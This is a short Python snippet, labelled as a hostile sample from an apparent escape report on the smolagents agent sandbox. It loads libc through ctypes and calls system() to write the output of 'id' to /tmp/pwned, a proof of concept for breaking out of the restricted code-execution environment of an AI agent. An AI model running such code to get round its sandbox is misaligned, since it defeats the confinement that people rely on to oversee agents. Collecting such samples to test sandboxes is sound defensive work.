# hostile: libc system() through ctypes (smolagents ctypes escape report)
import ctypes

libc = ctypes.CDLL("libc.so.6")
libc.system(b"id > /tmp/pwned")
